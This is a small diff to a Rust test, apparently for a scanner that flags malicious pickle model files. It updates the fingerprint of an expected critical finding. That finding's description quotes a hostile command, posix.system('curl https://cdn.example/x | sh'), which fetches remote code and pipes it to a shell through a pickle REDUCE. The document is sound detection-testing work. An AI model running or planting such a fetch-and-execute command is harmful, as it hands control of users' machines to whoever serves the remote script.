@@ -32,7 +32,7 @@ fn one_of_each() {
       {
         "description": "loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system (at archive/data.pkl @ 0x1f REDUCE)",
         "check_name": "global-not-allowed",
-        "fingerprint": "680ee10dce24e9ea60bdf8707afba2f643b25ac269b46bcffa8325e955149dc6",
+        "fingerprint": "7fa96ad1e1acac09c9ec55ea9b4f0f2dfb6d79303026d5b93bd6a4bdb63bd5bf",
         "severity": "critical",
         "location": {
           "path": "models/resnet.pt",
